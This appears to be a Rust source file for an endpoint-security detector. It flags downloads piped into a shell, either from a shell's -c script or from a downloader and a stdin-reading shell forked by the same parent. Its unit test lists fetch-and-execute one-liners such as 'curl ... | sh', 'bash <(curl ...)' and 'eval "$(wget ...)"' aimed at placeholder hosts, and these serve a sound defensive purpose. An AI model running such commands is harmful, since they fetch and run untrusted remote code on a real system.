//! A download piped into a shell: `curl … | sh`, `wget -qO- … | sudo bash`, `bash <(curl …)`,
//! `sh -c "$(curl …)"`. ATT&CK T1059.004 (Unix Shell), with T1105 (Ingress Tool Transfer).
//!
//! Two independent views, so that neither an interactive pipeline nor a `sh -c` one escapes:
//! 1. **Command line**: a shell's `-c` script whose pipeline feeds a downloader's output into a
//!    shell or interpreter, or runs a downloader inside `<( )` / `$( )` as code.
//! 2. **Siblings**: an interactive shell runs a pipeline by forking both sides from itself, so a
//!    downloader and a shell reading stdin (no script argument) exec'd by the same parent within
//!    `sibling_window_secs` are one pipeline, whatever the command line looked like.

use std::collections::VecDeque;

use chrono::{DateTime, TimeDelta, Utc};

use super::shell::{dash_c_script, is_downloader, is_interpreter, is_shell, segment_program};
use super::{Detector, evidence};
use crate::config::PipeToShellConfig;
use crate::event::{Event, EventKind, Exec};
use crate::finding::{Entity, Finding, Severity};
use crate::proctable::{ProcessTable, basename};

/// At most this many recent pipeline candidates are remembered.
const MAX_RECENT: usize = 4096;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    Downloader,
    StdinShell,
}

#[derive(Debug)]
struct Recent {
    ts: DateTime<Utc>,
    ppid: u32,
    pid: u32,
    role: Role,
    evidence: serde_json::Value,
}

pub struct PipeToShell {
    window: TimeDelta,
    recent: VecDeque<Recent>,
    /// Shells already reported by their command line: their children's pipeline is the same
    /// attack and is not reported twice.
    reported: VecDeque<(DateTime<Utc>, u32)>,
}

impl PipeToShell {
    pub fn new(cfg: PipeToShellConfig) -> Self {
        Self {
            window: TimeDelta::seconds(i64::try_from(cfg.sibling_window_secs).unwrap_or(60)),
            recent: VecDeque::new(),
            reported: VecDeque::new(),
        }
    }
}

/// Does this shell script text download something and run it as code?
pub fn script_pipes_download_to_shell(script: &str) -> bool {
    // `bash <(curl …)`, `. <(wget …)`, `sh -c "$(curl …)"`, eval "$(curl …)"
    for open in ["<(", "$("] {
        let mut rest = script;
        while let Some(i) = rest.find(open) {
            let inner = &rest[i + 2..];
            let body = inner.split(')').next().unwrap_or(inner);
            if segment_program(body).is_some_and(is_downloader) {
                let before = rest[..i].trim_end().trim_end_matches(['"', '\'']);
                let runner = before
                    .rsplit(['|', ';', '&', '\n'])
                    .next()
                    .and_then(segment_program);
                if runner
                    .is_some_and(|r| is_interpreter(r) || r == "." || r == "source" || r == "eval")
                {
                    return true;
                }
            }
            rest = inner;
        }
    }
    // `curl … | sh`: a downloader segment followed, later in the same pipeline, by an interpreter.
    for pipeline in script
        .split([';', '\n'])
        .flat_map(|s| s.split("&&"))
        .flat_map(|s| s.split("||"))
    {
        let mut downloaded = false;
        for seg in pipeline.split('|') {
            match segment_program(seg) {
                Some(p) if is_downloader(p) => downloaded = true,
                Some(p) if downloaded && is_interpreter(p) => return true,
                _ => {}
            }
        }
    }
    false
}

/// A shell that will read its script from stdin: no script operand, no `-c`.
fn reads_stdin(e: &Exec) -> bool {
    let name = basename(&e.filename);
    if !is_shell(name) && !is_shell(&e.comm) {
        return false;
    }
    let mut args = e.argv.iter().skip(1);
    args.all(|a| {
        a == "-"
            || (a.starts_with('-') && !a.contains('c') && a != "--login" && a != "-l" && a != "-i")
    })
}

impl Detector for PipeToShell {
    fn id(&self) -> &'static str {
        "pipe_to_shell"
    }

    fn on_event(&mut self, ev: &Event, procs: &ProcessTable, out: &mut Vec<Finding>) {
        let EventKind::Exec(e) = &ev.kind else {
            return;
        };
        let name = basename(&e.filename);
        let entity = |pid: u32, exe: &str| Entity::Process {
            pid,
            start_ns: ev.ts.timestamp_nanos_opt().map_or(0, |n| n as u64),
            exe: exe.to_owned(),
        };
        // View 1: the command line says it.
        if is_shell(name)
            && let Some(script) = dash_c_script(&e.argv)
            && script_pipes_download_to_shell(script)
        {
            out.push(Finding {
                ts: ev.ts,
                detector: self.id().into(),
                technique: "T1059.004".into(),
                severity: Severity::High,
                entity: entity(e.pid, &e.filename),
                summary: format!("download piped into a shell: {}", truncate(script, 200)),
                evidence: vec![evidence(ev)],
                author: None,
                stage: None,
            });
            if self.reported.len() >= MAX_RECENT {
                self.reported.pop_front();
            }
            self.reported.push_back((ev.ts, e.pid));
            return;
        }
        // View 2: siblings of one parent form the pipeline.
        let role = if is_downloader(name) {
            Role::Downloader
        } else if reads_stdin(e) {
            Role::StdinShell
        } else {
            return;
        };
        let ppid = if e.ppid != 0 {
            e.ppid
        } else {
            procs.get(e.pid).map_or(0, |p| p.ppid)
        };
        if ppid == 0
            || self
                .reported
                .iter()
                .any(|&(t, pid)| pid == ppid && ev.ts - t <= self.window)
        {
            return;
        }
        while self
            .recent
            .front()
            .is_some_and(|r| ev.ts - r.ts > self.window || self.recent.len() >= MAX_RECENT)
        {
            self.recent.pop_front();
        }
        let partner = self
            .recent
            .iter()
            .position(|r| r.ppid == ppid && r.role != role && r.pid != e.pid);
        if let Some(i) = partner {
            let other = self.recent.remove(i).map(|r| (r.pid, r.evidence));
            let (other_pid, other_ev) = other.unwrap_or((0, serde_json::Value::Null));
            let shell_pid = if role == Role::StdinShell {
                e.pid
            } else {
                other_pid
            };
            let shell_exe = if role == Role::StdinShell {
                e.filename.clone()
            } else {
                procs
                    .get(other_pid)
                    .map_or_else(String::new, |p| p.exe.clone())
            };
            let parent = procs.get(ppid).map_or("?", |p| p.exe_name());
            out.push(Finding {
                ts: ev.ts,
                detector: self.id().into(),
                technique: "T1059.004".into(),
                severity: Severity::High,
                entity: entity(shell_pid, &shell_exe),
                summary: format!(
                    "download piped into a shell: downloader and stdin shell started together by {parent} (pid {ppid})"
                ),
                evidence: vec![other_ev, evidence(ev)],
                author: None,
                stage: None,
            });
        } else {
            self.recent.push_back(Recent {
                ts: ev.ts,
                ppid,
                pid: e.pid,
                role,
                evidence: evidence(ev),
            });
        }
    }
}

fn truncate(s: &str, max: usize) -> &str {
    match s.char_indices().nth(max) {
        Some((i, _)) => &s[..i],
        None => s,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_that_pipe_downloads_into_shells() {
        for s in [
            "curl -fsSL https://x.example/i.sh | sh",
            "wget -qO- http://x/i | sudo -E bash -s -- --yes",
            "curl http://x | tee /tmp/log | bash",
            "cd /tmp && curl -s http://x | python3 -",
            "bash <(curl -s http://x)",
            "sh -c \"$(curl -fsSL http://x)\"",
            "eval \"$(wget -qO- http://x)\"",
            ". <(curl http://x)",
        ] {
            assert!(script_pipes_download_to_shell(s), "should fire: {s}");
        }
        for s in [
            "curl -o /tmp/i.sh https://x/i.sh",
            "curl http://x | grep foo | sort",
            "echo hi | sh",
            "wget http://x; bash build.sh",
            "curl http://x > out && cat out",
            "echo $(curl -s http://x/ip)",
            "cat <(ls)",
        ] {
            assert!(!script_pipes_download_to_shell(s), "should not fire: {s}");
        }
    }
}
